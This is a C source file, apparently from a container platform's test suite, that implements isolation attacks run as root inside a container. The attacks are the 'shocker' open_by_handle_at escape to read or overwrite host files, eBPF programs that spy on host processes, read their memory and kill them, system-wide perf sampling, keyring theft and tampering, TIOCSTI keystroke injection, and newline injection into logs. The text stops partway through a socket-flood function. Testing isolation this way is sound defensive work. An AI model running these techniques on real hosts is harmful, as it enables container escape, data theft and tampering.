/* atk: the isolation attacks, run inside a container as its root (`cml-control run <c> nopty
 * /opt/atk <attack> [args]`). Built statically by the test suite at test time.
 *
 * Every attack ends with exactly one line
 *     RESULT blocked <why>          the attack was refused
 *     RESULT SUCCEEDED <evidence>   the attack worked; <evidence> says what it achieved
 *     RESULT done <facts>           a measurement whose verdict the host side makes
 *     RESULT error <what>           the attack could not be carried out (the test is broken)
 * and may print `note ...` lines before it. Nothing here is allowed to harm the host even when
 * an attack succeeds: a write is attempted only on a sacrificial object the test made, a value
 * is only "written" by opening for write (the permission is checked at open) or by writing the
 * same value back, and everything gained is given up at once (iopl(0), munmap, detach...).
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <linux/bpf.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/sched.h>
#include <linux/userfaultfd.h>
#include <mqueue.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static int write_str(const char *path, const char *s);

/* ------------------------------------------------------------------ reporting */

static void result(const char *verdict, const char *fmt, ...) __attribute__((noreturn, format(printf, 2, 3)));
static void result(const char *verdict, const char *fmt, ...)
{
	va_list ap;
	printf("RESULT %s ", verdict);
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	printf("\n");
	fflush(stdout);
	exit(0);
}
#define BLOCKED(...) result("blocked", __VA_ARGS__)
#define SUCCEEDED(...) result("SUCCEEDED", __VA_ARGS__)
#define DONE(...) result("done", __VA_ARGS__)
#define BROKEN(...) result("error", __VA_ARGS__)

static void note(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void note(const char *fmt, ...)
{
	va_list ap;
	printf("note ");
	va_start(ap, fmt);
	vprintf(fmt, ap);
	va_end(ap);
	printf("\n");
	fflush(stdout);
}

static const char *en(int e) { return strerrorname_np(e) ? strerrorname_np(e) : "E?"; }
#define ERR en(errno)

/* printable copy of up to n bytes (for evidence lines) */
static const char *printable(const char *buf, size_t n)
{
	static char out[256];
	size_t j = 0;
	for (size_t i = 0; i < n && j < sizeof(out) - 1; i++) {
		unsigned char c = (unsigned char)buf[i];
		out[j++] = (c >= 32 && c < 127) ? (char)c : '.';
	}
	out[j] = 0;
	return out;
}

static long arg_long(const char *s) { return strtol(s, NULL, 0); }

static int read_file(const char *path, char *buf, size_t len)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return -1;
	ssize_t n = read(fd, buf, len - 1);
	int e = errno;
	close(fd);
	if (n < 0) {
		errno = e;
		return -1;
	}
	buf[n] = 0;
	return (int)n;
}

/* ------------------------------------------------------------------ capabilities, identity */

/* `whoami`: uid map, capability sets, oom_score_adj, namespaces: facts for the host side */
static void atk_whoami(int argc, char **argv)
{
	(void)argc; (void)argv;
	char buf[4096];
	if (read_file("/proc/self/uid_map", buf, sizeof buf) >= 0)
		printf("uid_map %s", buf);
	if (read_file("/proc/self/status", buf, sizeof buf) >= 0) {
		for (char *l = strtok(buf, "\n"); l; l = strtok(NULL, "\n"))
			if (!strncmp(l, "Cap", 3) || !strncmp(l, "NoNewPrivs", 10) || !strncmp(l, "Seccomp", 7))
				printf("%s\n", l);
	}
	DONE("pid %d", getpid());
}

/* ------------------------------------------------------------------ open_by_handle_at */

struct handle_buf {
	struct file_handle fh;
	unsigned char bytes[MAX_HANDLE_SZ];
};

/* `obh MOUNTFILE RELPATH read|write|grep [DATA]`: the "shocker" attack. MOUNTFILE is any file
 * of the container; if its mount's superblock is the host's (a BIND_FILE), a forged handle of
 * that file system's root directory (ext4: inode 2, generation 0) opened through it gives a
 * directory fd on the host file system, and RELPATH is opened below it. */
static void atk_obh(int argc, char **argv)
{
	if (argc < 4)
		BROKEN("usage: obh MOUNTFILE RELPATH read|write|grep [DATA]");
	const char *mountfile = argv[1], *rel = argv[2], *mode = argv[3];
	struct handle_buf own = {.fh.handle_bytes = MAX_HANDLE_SZ};
	int mnt_id;
	if (name_to_handle_at(AT_FDCWD, mountfile, &own.fh, &mnt_id, 0) < 0)
		BROKEN("name_to_handle_at %s: %s", mountfile, ERR);
	note("name_to_handle_at %s: type %d, %u bytes (allowed: it only names a file we can see)", mountfile,
	     own.fh.handle_type, own.fh.handle_bytes);
	if (own.fh.handle_type != 1)
		BROKEN("file system of %s has handle type %d, the attack knows ext4's (1)", mountfile, own.fh.handle_type);
	int mfd = open(mountfile, O_RDONLY | O_CLOEXEC);
	if (mfd < 0)
		BROKEN("open %s: %s", mountfile, ERR);
	struct handle_buf root = {.fh.handle_bytes = 8, .fh.handle_type = 1};
	uint32_t ino = 2, gen = 0;
	memcpy(root.fh.f_handle, &ino, 4);
	memcpy(root.fh.f_handle + 4, &gen, 4);
	int dfd = open_by_handle_at(mfd, &root.fh, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (dfd < 0)
		BLOCKED("open_by_handle_at(root of the file system of %s): %s", mountfile, ERR);
	/* what is in that root directory (evidence of where we are) */
	DIR *d = fdopendir(dup(dfd));
	char names[512] = "";
	if (d) {
		struct dirent *de;
		while ((de = readdir(d)) && strlen(names) < 400)
			if (de->d_name[0] != '.') {
				strcat(names, de->d_name);
				strcat(names, " ");
			}
		closedir(d);
	}
	note("opened the root directory of the file system behind %s by a forged handle: %s", mountfile, names);
	if (!strcmp(mode, "read")) {
		int fd = openat(dfd, rel, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			BLOCKED("root directory opened by handle (%s), but %s: %s", names, rel, ERR);
		char buf[200];
		ssize_t n = read(fd, buf, sizeof buf);
		if (n < 0)
			BLOCKED("read %s: %s", rel, ERR);
		SUCCEEDED("read %zd bytes of the host file <fs root>/%s: '%s'", n, rel, printable(buf, (size_t)n));
	} else if (!strcmp(mode, "write")) {
		if (argc < 5)
			BROKEN("write needs DATA");
		int fd = openat(dfd, rel, O_WRONLY | O_TRUNC | O_CLOEXEC);
		if (fd < 0)
			BLOCKED("root directory opened by handle (%s), but open %s for writing: %s", names, rel, ERR);
		ssize_t n = write(fd, argv[4], strlen(argv[4]));
		if (n < 0)
			BLOCKED("write %s: %s", rel, ERR);
		fsync(fd);
		SUCCEEDED("overwrote the host file <fs root>/%s with %zd bytes '%s'", rel, n, argv[4]);
	} else if (!strcmp(mode, "grep")) {
		if (argc < 5)
			BROKEN("grep needs a needle");
		const char *needle = argv[4];
		size_t nl = strlen(needle);
		int fd = openat(dfd, rel, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			BLOCKED("root directory opened by handle (%s), but %s: %s", names, rel, ERR);
		static char buf[(1 << 20) + 256];
		size_t keep = 0;
		off_t base = 0;
		for (;;) {
			ssize_t n = read(fd, buf + keep, 1 << 20);
			if (n <= 0)
				break;
			size_t have = keep + (size_t)n;
			char *hit = memmem(buf, have, needle, nl);
			if (hit)
				SUCCEEDED("found '%s' at offset %lld of the other container's image <fs root>/%s", needle,
					  (long long)(base + (hit - buf)), rel);
			keep = nl < have ? nl : have;
			memmove(buf, buf + have - keep, keep);
			base += (off_t)(have - keep);
		}
		BLOCKED("opened %s by handle but the needle is not in it", rel);
	}
	BROKEN("unknown mode %s", mode);
}

/* `handle_own`: name_to_handle_at + open_by_handle_at on the container's own root: the
 * capability check itself (CAP_DAC_READ_SEARCH of the host), independent of any bind mount. */
static void atk_handle_own(int argc, char **argv)
{
	(void)argc; (void)argv;
	struct handle_buf h = {.fh.handle_bytes = MAX_HANDLE_SZ};
	int mnt_id;
	if (name_to_handle_at(AT_FDCWD, "/etc/passwd", &h.fh, &mnt_id, 0) < 0)
		BROKEN("name_to_handle_at /etc/passwd: %s", ERR);
	note("name_to_handle_at(/etc/passwd) allowed: type %d", h.fh.handle_type);
	int mfd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	int fd = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		BLOCKED("open_by_handle_at: %s", ERR);
	SUCCEEDED("open_by_handle_at works (the container holds CAP_DAC_READ_SEARCH of the host): any inode of any "
		  "file system it has a mount of can be opened, also ones hidden under other mounts");
}

/* ------------------------------------------------------------------ eBPF */

#define INSN(c, d, s, o, i) ((struct bpf_insn){.code = (c), .dst_reg = (d), .src_reg = (s), .off = (o), .imm = (i)})
#define MOV64_IMM(d, i) INSN(BPF_ALU64 | BPF_MOV | BPF_K, d, 0, 0, i)
#define MOV64_REG(d, s) INSN(BPF_ALU64 | BPF_MOV | BPF_X, d, s, 0, 0)
#define ADD64_IMM(d, i) INSN(BPF_ALU64 | BPF_ADD | BPF_K, d, 0, 0, i)
#define RSH64_IMM(d, i) INSN(BPF_ALU64 | BPF_RSH | BPF_K, d, 0, 0, i)
#define LDX_DW(d, s, o) INSN(BPF_LDX | BPF_MEM | BPF_DW, d, s, o, 0)
#define STX_DW(d, s, o) INSN(BPF_STX | BPF_MEM | BPF_DW, d, s, o, 0)
#define STX_W(d, s, o) INSN(BPF_STX | BPF_MEM | BPF_W, d, s, o, 0)
#define ST_DW(d, o, i) INSN(BPF_ST | BPF_MEM | BPF_DW, d, 0, o, i)
#define ST_W(d, o, i) INSN(BPF_ST | BPF_MEM | BPF_W, d, 0, o, i)
#define JNE_IMM(d, i, o) INSN(BPF_JMP | BPF_JNE | BPF_K, d, 0, o, i)
#define CALL(f) INSN(BPF_JMP | BPF_CALL, 0, 0, 0, f)
#define EXIT() INSN(BPF_JMP | BPF_EXIT, 0, 0, 0, 0)
#define LD_MAP_FD(d, fd) INSN(BPF_LD | BPF_DW | BPF_IMM, d, BPF_PSEUDO_MAP_FD, 0, fd), INSN(0, 0, 0, 0, 0)

static char bpf_log[65536];

static long sys_bpf(int cmd, union bpf_attr *attr) { return syscall(SYS_bpf, cmd, attr, sizeof(*attr)); }

static int map_create(int type, int key, int value, int entries)
{
	union bpf_attr a = {0};
	a.map_type = (uint32_t)type;
	a.key_size = (uint32_t)key;
	a.value_size = (uint32_t)value;
	a.max_entries = (uint32_t)entries;
	return (int)sys_bpf(BPF_MAP_CREATE, &a);
}

static int prog_load(int type, const struct bpf_insn *insns, size_t n)
{
	union bpf_attr a = {0};
	a.prog_type = (uint32_t)type;
	a.insns = (uint64_t)(uintptr_t)insns;
	a.insn_cnt = (uint32_t)n;
	a.license = (uint64_t)(uintptr_t) "GPL";
	a.log_buf = (uint64_t)(uintptr_t)bpf_log;
	a.log_size = sizeof bpf_log;
	a.log_level = 1;
	int fd = (int)sys_bpf(BPF_PROG_LOAD, &a);
	if (fd < 0 && errno == EACCES && bpf_log[0])
		note("verifier: %.300s", bpf_log);
	return fd;
}

static int raw_tp_open(const char *name, int prog)
{
	union bpf_attr a = {0};
	a.raw_tracepoint.name = (uint64_t)(uintptr_t)name;
	a.raw_tracepoint.prog_fd = (uint32_t)prog;
	return (int)sys_bpf(BPF_RAW_TRACEPOINT_OPEN, &a);
}

/* `bpf_load`: BPF_MAP_CREATE and BPF_PROG_LOAD of a two-instruction socket filter */
static void atk_bpf_load(int argc, char **argv)
{
	(void)argc; (void)argv;
	int map = map_create(BPF_MAP_TYPE_ARRAY, 4, 8, 1);
	note("BPF_MAP_CREATE: %s", map >= 0 ? "allowed" : ERR);
	struct bpf_insn prog[] = {MOV64_IMM(BPF_REG_0, 0), EXIT()};
	int fd = prog_load(BPF_PROG_TYPE_SOCKET_FILTER, prog, 2);
	if (fd < 0)
		BLOCKED("BPF_PROG_LOAD (socket filter): %s", ERR);
	SUCCEEDED("BPF_PROG_LOAD of a socket filter: program fd %d (map create: %s)", fd, map >= 0 ? "ok" : "refused");
}

/* `bpf_procs SENTINEL_PID`: a raw tracepoint on every system call entry (of every process of the
 * machine) records tgid -> comm in a hash map; then the map is read. */
static void atk_bpf_procs(int argc, char **argv)
{
	if (argc < 2)
		BROKEN("usage: bpf_procs SENTINEL_HOST_PID");
	long sentinel = arg_long(argv[1]);
	int map = map_create(BPF_MAP_TYPE_HASH, 4, 16, 4096);
	if (map < 0)
		BLOCKED("BPF_MAP_CREATE: %s", ERR);
	struct bpf_insn prog[] = {
		CALL(BPF_FUNC_get_current_pid_tgid),
		RSH64_IMM(BPF_REG_0, 32),
		STX_W(BPF_REG_10, BPF_REG_0, -4),
		ST_DW(BPF_REG_10, -24, 0),
		ST_DW(BPF_REG_10, -16, 0),
		MOV64_REG(BPF_REG_1, BPF_REG_10),
		ADD64_IMM(BPF_REG_1, -24),
		MOV64_IMM(BPF_REG_2, 16),
		CALL(BPF_FUNC_get_current_comm),
		LD_MAP_FD(BPF_REG_1, map),
		MOV64_REG(BPF_REG_2, BPF_REG_10),
		ADD64_IMM(BPF_REG_2, -4),
		MOV64_REG(BPF_REG_3, BPF_REG_10),
		ADD64_IMM(BPF_REG_3, -24),
		MOV64_IMM(BPF_REG_4, BPF_ANY),
		CALL(BPF_FUNC_map_update_elem),
		MOV64_IMM(BPF_REG_0, 0),
		EXIT(),
	};
	int fd = prog_load(BPF_PROG_TYPE_RAW_TRACEPOINT, prog, sizeof prog / sizeof prog[0]);
	if (fd < 0)
		BLOCKED("BPF_PROG_LOAD (raw tracepoint): %s", ERR);
	int tp = raw_tp_open("sys_enter", fd);
	if (tp < 0)
		BLOCKED("BPF_RAW_TRACEPOINT_OPEN sys_enter: %s", ERR);
	usleep(400 * 1000);
	close(tp); /* detached */
	uint32_t key, next, *kp = NULL;
	char comm[16];
	int count = 0, seen_sentinel = 0;
	char sample[200] = "";
	union bpf_attr a = {0};
	for (;;) {
		a.map_fd = (uint32_t)map;
		a.key = (uint64_t)(uintptr_t)kp;
		a.next_key = (uint64_t)(uintptr_t)&next;
		if (sys_bpf(BPF_MAP_GET_NEXT_KEY, &a) < 0)
			break;
		key = next;
		kp = &key;
		union bpf_attr l = {0};
		l.map_fd = (uint32_t)map;
		l.key = (uint64_t)(uintptr_t)&key;
		l.value = (uint64_t)(uintptr_t)comm;
		if (sys_bpf(BPF_MAP_LOOKUP_ELEM, &l) < 0)
			continue;
		comm[15] = 0;
		count++;
		if ((long)key == sentinel)
			seen_sentinel = 1;
		if (strlen(sample) < 150) {
			char e[40];
			snprintf(e, sizeof e, "%u:%s ", key, comm);
			strcat(sample, e);
		}
	}
	if (!seen_sentinel)
		BLOCKED("the tracepoint ran but did not see the host sentinel (%d processes: %s)", count, sample);
	SUCCEEDED("a raw tracepoint saw %d processes of the machine by host PID, the host sentinel %ld among them "
		  "(%s...)", count, sentinel, sample);
}

/* `bpf_readmem SENTINEL_PID`: on the sentinel's write(2) entry, read its registers (kernel
 * memory: struct pt_regs) and then the buffer it writes (its user memory). */
static void atk_bpf_readmem(int argc, char **argv)
{
	if (argc < 2)
		BROKEN("usage: bpf_readmem SENTINEL_HOST_PID");
	int sentinel = (int)arg_long(argv[1]);
	int map = map_create(BPF_MAP_TYPE_ARRAY, 4, 32, 1);
	if (map < 0)
		BLOCKED("BPF_MAP_CREATE: %s", ERR);
	struct bpf_insn prog[] = {
		MOV64_REG(BPF_REG_6, BPF_REG_1),	/* ctx: args[0] = struct pt_regs *, args[1] = syscall nr */
		CALL(BPF_FUNC_get_current_pid_tgid),
		RSH64_IMM(BPF_REG_0, 32),
		JNE_IMM(BPF_REG_0, sentinel, 28),	/* -> out */
		LDX_DW(BPF_REG_1, BPF_REG_6, 8),
		JNE_IMM(BPF_REG_1, SYS_write, 26),	/* -> out */
		LDX_DW(BPF_REG_7, BPF_REG_6, 0),
		ST_DW(BPF_REG_10, -8, 0),
		MOV64_REG(BPF_REG_1, BPF_REG_10),
		ADD64_IMM(BPF_REG_1, -8),
		MOV64_IMM(BPF_REG_2, 8),
		MOV64_REG(BPF_REG_3, BPF_REG_7),
		ADD64_IMM(BPF_REG_3, 104),		/* offsetof(struct pt_regs, si): write's buffer */
		CALL(BPF_FUNC_probe_read_kernel),
		LDX_DW(BPF_REG_3, BPF_REG_10, -8),
		ST_DW(BPF_REG_10, -48, 0),
		ST_DW(BPF_REG_10, -40, 0),
		ST_DW(BPF_REG_10, -32, 0),
		ST_DW(BPF_REG_10, -24, 0),
		MOV64_REG(BPF_REG_1, BPF_REG_10),
		ADD64_IMM(BPF_REG_1, -48),
		MOV64_IMM(BPF_REG_2, 32),
		CALL(BPF_FUNC_probe_read_user),
		ST_W(BPF_REG_10, -52, 0),
		LD_MAP_FD(BPF_REG_1, map),
		MOV64_REG(BPF_REG_2, BPF_REG_10),
		ADD64_IMM(BPF_REG_2, -52),
		MOV64_REG(BPF_REG_3, BPF_REG_10),
		ADD64_IMM(BPF_REG_3, -48),
		MOV64_IMM(BPF_REG_4, BPF_ANY),
		CALL(BPF_FUNC_map_update_elem),
		MOV64_IMM(BPF_REG_0, 0),		/* out */
		EXIT(),
	};
	int fd = prog_load(BPF_PROG_TYPE_RAW_TRACEPOINT, prog, sizeof prog / sizeof prog[0]);
	if (fd < 0)
		BLOCKED("BPF_PROG_LOAD (raw tracepoint with probe_read_kernel/user): %s", ERR);
	int tp = raw_tp_open("sys_enter", fd);
	if (tp < 0)
		BLOCKED("BPF_RAW_TRACEPOINT_OPEN sys_enter: %s", ERR);
	usleep(400 * 1000);
	close(tp);
	uint32_t key = 0;
	char val[33] = {0};
	union bpf_attr l = {0};
	l.map_fd = (uint32_t)map;
	l.key = (uint64_t)(uintptr_t)&key;
	l.value = (uint64_t)(uintptr_t)val;
	if (sys_bpf(BPF_MAP_LOOKUP_ELEM, &l) < 0)
		BROKEN("map lookup: %s", ERR);
	if (!val[0])
		BLOCKED("program attached but read nothing of the sentinel");
	SUCCEEDED("read the host sentinel's registers (kernel memory) and 32 bytes of its user memory: '%s'",
		  printable(val, 32));
}

/* `bpf_kill SENTINEL_PID`: bpf_send_signal(SIGKILL) from a tracepoint when the current task is
 * the host sentinel (and only then: the filter compares the host tgid). */
static void atk_bpf_kill(int argc, char **argv)
{
	if (argc < 2)
		BROKEN("usage: bpf_kill SENTINEL_HOST_PID");
	int sentinel = (int)arg_long(argv[1]);
	if (sentinel <= 1)
		BROKEN("refusing sentinel pid %d", sentinel);
	struct bpf_insn prog[] = {
		CALL(BPF_FUNC_get_current_pid_tgid),
		RSH64_IMM(BPF_REG_0, 32),
		JNE_IMM(BPF_REG_0, sentinel, 2),
		MOV64_IMM(BPF_REG_1, SIGKILL),
		CALL(BPF_FUNC_send_signal),
		MOV64_IMM(BPF_REG_0, 0),
		EXIT(),
	};
	int fd = prog_load(BPF_PROG_TYPE_RAW_TRACEPOINT, prog, sizeof prog / sizeof prog[0]);
	if (fd < 0)
		BLOCKED("BPF_PROG_LOAD (raw tracepoint with bpf_send_signal): %s", ERR);
	int tp = raw_tp_open("sys_enter", fd);
	if (tp < 0)
		BLOCKED("BPF_RAW_TRACEPOINT_OPEN sys_enter: %s", ERR);
	usleep(400 * 1000);
	close(tp);
	DONE("program with bpf_send_signal(SIGKILL) was attached to sys_enter for 400 ms");
}

/* ------------------------------------------------------------------ perf */

static long perf_open(struct perf_event_attr *attr, pid_t pid, int cpu)
{
	return syscall(SYS_perf_event_open, attr, pid, cpu, -1, 0);
}

/* `perf_all`: perf_event_open(pid = -1, cpu = N) for every CPU: samples of every process of the
 * machine, kernel code included. */
static void atk_perf_all(int argc, char **argv)
{
	(void)argc; (void)argv;
	long ncpu = sysconf(_SC_NPROCESSORS_CONF);
	long samples = 0, kernel = 0, foreign = 0;
	int cpus = 0, last_errno = 0;
	for (int cpu = 0; cpu < ncpu && cpu < 64; cpu++) {
		struct perf_event_attr a = {0};
		a.size = sizeof a;
		a.type = PERF_TYPE_SOFTWARE;
		a.config = PERF_COUNT_SW_CPU_CLOCK;
		a.sample_period = 1000000;
		a.sample_type = PERF_SAMPLE_IP | PERF_SAMPLE_TID;
		a.disabled = 1;
		a.exclude_hv = 1;
		int fd = (int)perf_open(&a, -1, cpu);
		if (fd < 0) {
			last_errno = errno;
			continue;
		}
		size_t pg = (size_t)sysconf(_SC_PAGESIZE), len = pg * 9;
		void *m = mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
		if (m == MAP_FAILED) {
			close(fd);
			continue;
		}
		cpus++;
		ioctl(fd, PERF_EVENT_IOC_ENABLE, 0);
		usleep(300 * 1000);
		ioctl(fd, PERF_EVENT_IOC_DISABLE, 0);
		struct perf_event_mmap_page *meta = m;
		uint64_t head = __atomic_load_n(&meta->data_head, __ATOMIC_ACQUIRE);
		char *data = (char *)m + pg;
		size_t size = pg * 8;
		uint64_t off = head > size ? head - size : 0;
		while (off + sizeof(struct perf_event_header) <= head) {
			struct perf_event_header h;
			for (size_t i = 0; i < sizeof h; i++)
				((char *)&h)[i] = data[(off + i) % size];
			if (h.size == 0)
				break;
			if (h.type == PERF_RECORD_SAMPLE) {
				uint64_t ip;
				uint32_t pt[2];
				for (size_t i = 0; i < 8; i++)
					((char *)&ip)[i] = data[(off + sizeof h + i) % size];
				for (size_t i = 0; i < 8; i++)
					((char *)pt)[i] = data[(off + sizeof h + 8 + i) % size];
				samples++;
				if (ip >= 0xffff800000000000ULL)
					kernel++;
				if (pt[0] == 0)
					foreign++;
			}
			off += h.size;
		}
		munmap(m, len);
		close(fd);
	}
	if (!cpus)
		BLOCKED("perf_event_open(pid=-1, cpu=N): %s", en(last_errno));
	SUCCEEDED("perf_event_open(pid=-1) on %d CPUs: %ld samples in 300 ms, %ld of them in kernel code, %ld of "
		  "processes outside the container (pid 0 in its namespace)", cpus, samples, kernel, foreign);
}

/* ------------------------------------------------------------------ keyrings */

static long keyctl5(int cmd, unsigned long a2, unsigned long a3, unsigned long a4, unsigned long a5)
{
	return syscall(SYS_keyctl, cmd, a2, a3, a4, a5);
}

/* `keys_list RING [WANT_DESC_PREFIX]`: every key of the session (or user) keyring with its
 * description and, for "user" keys, its payload. */
static void atk_keys_list(int argc, char **argv)
{
	if (argc < 2)
		BROKEN("usage: keys_list session|user [DESC_PREFIX]");
	long ring = !strcmp(argv[1], "user") ? KEY_SPEC_USER_KEYRING : KEY_SPEC_SESSION_KEYRING;
	const char *want = argc > 2 ? argv[2] : NULL;
	long id = keyctl5(KEYCTL_GET_KEYRING_ID, (unsigned long)ring, 0, 0, 0);
	if (id < 0)
		BLOCKED("no %s keyring: %s", argv[1], ERR);
	int32_t serials[256];
	long n = keyctl5(KEYCTL_READ, (unsigned long)id, (unsigned long)serials, sizeof serials, 0);
	if (n < 0)
		BLOCKED("read %s keyring %ld: %s", argv[1], id, ERR);
	note("%s keyring %ld holds %ld keys", argv[1], id, n / 4);
	char found[300] = "";
	for (long i = 0; i < n / 4 && i < 256; i++) {
		char desc[256] = "";
		if (keyctl5(KEYCTL_DESCRIBE, (unsigned long)serials[i], (unsigned long)desc, sizeof desc - 1, 0) < 0)
			continue;
		char payload[128] = "";
		long pl = keyctl5(KEYCTL_READ, (unsigned long)serials[i], (unsigned long)payload, sizeof payload - 1, 0);
		note("key %d: %s payload %s", serials[i], desc, pl >= 0 ? printable(payload, (size_t)(pl < 127 ? pl : 127)) : ERR);
		const char *d = strrchr(desc, ';');
		if (want && d && !strncmp(d + 1, want, strlen(want)) && pl > 0)
			snprintf(found, sizeof found, "key %d '%s' = '%s'", serials[i], d + 1,
				 printable(payload, (size_t)(pl < 127 ? pl : 127)));
	}
	if (!want)
		DONE("listed");
	if (!found[0])
		BLOCKED("no readable key named %s* in the %s keyring %ld", want, argv[1], id);
	SUCCEEDED("read from the %s keyring %ld: %s", argv[1], id, found);
}

/* `keys_add DESC PAYLOAD`: put a key in this session's keyring (setup, run in the victim) */
static void atk_keys_add(int argc, char **argv)
{
	if (argc < 3)
		BROKEN("usage: keys_add DESC PAYLOAD");
	long k = syscall(SYS_add_key, "user", argv[1], argv[2], strlen(argv[2]), KEY_SPEC_SESSION_KEYRING);
	if (k < 0)
		BROKEN("add_key: %s", ERR);
	long ring = keyctl5(KEYCTL_GET_KEYRING_ID, (unsigned long)KEY_SPEC_SESSION_KEYRING, 0, 0, 0);
	DONE("key %ld in session keyring %ld", k, ring);
}

/* `keys_read_own DESC`: read a key of our own session keyring (run in the victim) */
static void atk_keys_read_own(int argc, char **argv)
{
	if (argc < 2)
		BROKEN("usage: keys_read_own DESC");
	long k = keyctl5(KEYCTL_SEARCH, (unsigned long)KEY_SPEC_SESSION_KEYRING, (unsigned long)"user",
			 (unsigned long)argv[1], 0);
	if (k < 0)
		DONE("missing %s", ERR);
	char payload[128] = "";
	long pl = keyctl5(KEYCTL_READ, (unsigned long)k, (unsigned long)payload, sizeof payload - 1, 0);
	DONE("payload '%s'", pl >= 0 ? printable(payload, (size_t)pl) : ERR);
}

/* `keys_update DESC NEWPAYLOAD`: find a key in our session keyring and overwrite it */
static void atk_keys_update(int argc, char **argv)
{
	if (argc < 3)
		BROKEN("usage: keys_update DESC PAYLOAD");
	long k = keyctl5(KEYCTL_SEARCH, (unsigned long)KEY_SPEC_SESSION_KEYRING, (unsigned long)"user",
			 (unsigned long)argv[1], 0);
	if (k < 0)
		BLOCKED("search for %s in the session keyring: %s", argv[1], ERR);
	if (keyctl5(KEYCTL_UPDATE, (unsigned long)k, (unsigned long)argv[2], strlen(argv[2]), 0) < 0)
		BLOCKED("found key %ld but update: %s", k, ERR);
	SUCCEEDED("overwrote key %ld (%s) of the session keyring with '%s'", k, argv[1], argv[2]);
}

/* `keys_unlink_user DESC`: find a key in "our" user keyring (@u) and unlink it from there */
static void atk_keys_unlink_user(int argc, char **argv)
{
	if (argc < 2)
		BROKEN("usage: keys_unlink_user DESC");
	long ring = keyctl5(KEYCTL_GET_KEYRING_ID, (unsigned long)KEY_SPEC_USER_KEYRING, 0, 0, 0);
	long k = keyctl5(KEYCTL_SEARCH, (unsigned long)KEY_SPEC_USER_KEYRING, (unsigned long)"user",
			 (unsigned long)argv[1], 0);
	if (k < 0)
		BLOCKED("search for %s in the user keyring %ld: %s", argv[1], ring, ERR);
	if (keyctl5(KEYCTL_UNLINK, (unsigned long)k, (unsigned long)KEY_SPEC_USER_KEYRING, 0, 0) < 0)
		BLOCKED("found key %ld in user keyring %ld but unlink: %s", k, ring, ERR);
	SUCCEEDED("unlinked key %ld (%s) from the user keyring %ld of uid %d", k, argv[1], ring, getuid());
}

/* ------------------------------------------------------------------ terminal */

/* `tty TEXT`: the controlling terminal inherited from the daemon: TIOCSTI injects TEXT as if it
 * had been typed there; a plain write shows on its screen. */
static void atk_tty(int argc, char **argv)
{
	if (argc < 2)
		BROKEN("usage: tty TEXT");
	int fd = open("/dev/tty", O_RDWR | O_NOCTTY | O_CLOEXEC);
	if (fd < 0)
		BLOCKED("open /dev/tty: %s (no controlling terminal)", ERR);
	char name[64] = "?";
	ttyname_r(fd, name, sizeof name);
	ssize_t w = write(fd, "atk-was-here\n", 13);
	note("write to the controlling terminal %s: %zd", name, w);
	size_t ok = 0;
	for (const char *p = argv[1]; *p; p++)
		if (ioctl(fd, TIOCSTI, p) == 0)
			ok++;
	if (!ok)
		BLOCKED("opened the controlling terminal, but TIOCSTI: %s", ERR);
	SUCCEEDED("injected %zu keystrokes into the controlling terminal of the daemon (%s) with TIOCSTI", ok, name);
}

/* ------------------------------------------------------------------ log abuse, service socket */

/* `mknod_flood N`: N mknod(2) of a denied device: each is a seccomp notification cmld decides */
static void atk_mknod_flood(int argc, char **argv)
{
	long n = argc > 1 ? arg_long(argv[1]) : 1000;
	long denied = 0, other = 0;
	for (long i = 0; i < n; i++) {
		if (mknod("/tmp/atk-mem", S_IFCHR | 0600, makedev(1, 1)) < 0)
			denied++;
		else {
			other++;
			unlink("/tmp/atk-mem");
		}
	}
	DONE("%ld of %ld mknod calls refused, %ld created", denied, n, other);
}

/* `mknod_path PATH MAJOR MINOR [c|b]`: one mknod, the result and errno */
static void atk_mknod_path(int argc, char **argv)
{
	if (argc < 4)
		BROKEN("usage: mknod_path PATH MAJOR MINOR [c|b]");
	mode_t type = argc > 4 && argv[4][0] == 'b' ? S_IFBLK : S_IFCHR;
	/* "\\n" in PATH becomes a newline here (so the command line cmld logs has none) */
	char path[512];
	size_t j = 0;
	for (const char *c = argv[1]; *c && j < sizeof path - 1; c++) {
		if (c[0] == '\\' && c[1] == 'n') {
			path[j++] = '\n';
			c++;
		} else
			path[j++] = *c;
	}
	path[j] = 0;
	int r = mknod(path, type | 0600, makedev(arg_long(argv[2]), arg_long(argv[3])));
	DONE("mknod: %s", r == 0 ? "created" : ERR);
}

static int unix_connect(const char *path)
{
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	strncpy(a.sun_path, path, sizeof a.sun_path - 1);
	if (connect(s, (struct sockaddr *)&a, sizeof a) < 0) {
		int e = errno;
		close(s);
		errno = e;
		return -1;
	}
	return s;
}

/* `service_flood N`: N well-framed but undecodable messages on the service socket */
static void atk_service_flood(int argc, char **argv)
{
	long n = argc > 1 ? arg_long(argv[1]) : 1000;
	int s = unix_connect("/run/socket/cml-service");
	if (s < 0)
		BROKEN("connect /run/socket/cml-service: %s", ERR);
